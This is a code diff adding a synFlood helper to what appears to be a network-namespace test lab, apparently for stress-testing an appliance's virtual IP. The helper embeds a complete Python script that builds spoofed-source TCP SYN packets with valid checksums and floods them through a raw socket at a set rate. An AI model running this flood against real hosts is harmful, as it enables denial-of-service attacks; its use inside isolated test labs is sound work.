@@ -90,6 +90,76 @@ export async function injectFrameBatch<R extends string>(
   }
 }
 
+export interface SynFloodOptions {
+  /** Destination MAC: the appliance port the frames enter. */
+  dstMac: string;
+  /** Source MAC: the sending device's own, so the appliance records a real peer. */
+  srcMac: string;
+  vip: string;
+  vport: number;
+  /** SYNs per second at most (the sender's own speed caps it too). */
+  rate: number;
+  durationMs: number;
+}
+
+/**
+ * A spoofed SYN flood (as `hping3 --flood --rand-source` sends it): TCP SYNs to vip:vport from
+ * random sources in 10.0.0.0/8 with random source ports and sequence numbers, correct IP and TCP
+ * checksums, out of `dev` in a namespace through an AF_PACKET socket, paced to `rate` per second
+ * for `durationMs`. No source answers: every SYN opens an embryonic conn that nothing completes.
+ * Resolves with the frames sent and the rate achieved.
+ */
+export async function synFlood<R extends string>(
+  lab: NetnsLab<R>,
+  role: R,
+  dev: string,
+  opts: SynFloodOptions,
+): Promise<{ sent: number; seconds: number; pps: number }> {
+  const script = [
+    'import json, random, socket, struct, sys, time',
+    'dev, dmac, smac, vip, vport, rate, dur = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), float(sys.argv[6]), float(sys.argv[7]) / 1000.0',
+    's = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)',
+    's.bind((dev, 0))',
+    'eth = bytes.fromhex(dmac.replace(":", "")) + bytes.fromhex(smac.replace(":", "")) + b"\\x08\\x00"',
+    'dst = socket.inet_aton(vip)',
+    'def fold(x):',
+    '    while x >> 16:',
+    '        x = (x & 0xFFFF) + (x >> 16)',
+    '    return (~x) & 0xFFFF',
+    'rnd = random.Random()',
+    'sent, start = 0, time.monotonic()',
+    'while True:',
+    '    now = time.monotonic() - start',
+    '    if now >= dur:',
+    '        break',
+    '    if sent >= rate * now:',
+    '        time.sleep(0.0005)',
+    '        continue',
+    '    for _ in range(32):',
+    '        src = struct.pack("!I", (10 << 24) | rnd.getrandbits(24))',
+    '        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, rnd.getrandbits(16), 0x4000, 64, 6, 0, src, dst)',
+    '        ip = ip[:10] + struct.pack("!H", fold(sum(struct.unpack("!10H", ip)))) + ip[12:]',
+    '        tcp = struct.pack("!HHIIBBHHH", 1024 + rnd.getrandbits(15), vport, rnd.getrandbits(32), 0, 0x50, 0x02, 64240, 0, 0)',
+    '        ph = src + dst + struct.pack("!BBH", 0, 6, 20)',
+    '        ck = fold(sum(struct.unpack("!6H", ph)) + sum(struct.unpack("!10H", tcp)))',
+    '        tcp = tcp[:16] + struct.pack("!H", ck) + tcp[18:]',
+    '        try:',
+    '            s.send(eth + ip + tcp)',
+    '            sent += 1',
+    '        except OSError:',
+    '            pass',
+    'secs = time.monotonic() - start',
+    'print(json.dumps({"sent": sent, "seconds": secs, "pps": sent / secs}))',
+  ].join('\n');
+  const args = ['-c', script, dev, opts.dstMac, opts.srcMac, opts.vip, String(opts.vport), String(opts.rate), String(opts.durationMs)];
+  const res = await lab.execAsync(role, 'python3', args, { timeoutMs: opts.durationMs + 30000 });
+  const line = res.stdout.trim().split('\n').pop() ?? '';
+  if (res.code !== 0 || !line.startsWith('{')) {
+    throw new Error(`SYN flood from ${lab.ns(role)}/${dev} failed (exit ${res.signal ?? res.code}): ${res.stderr.trim()}`);
+  }
+  return JSON.parse(line) as { sent: number; seconds: number; pps: number };
+}
+
 /**
  * Holds `flows` UDP flows open from a namespace for `durationMs`: one socket per flow (its own
  * source port), each sending a small datagram to host:port every `intervalMs` whether or not
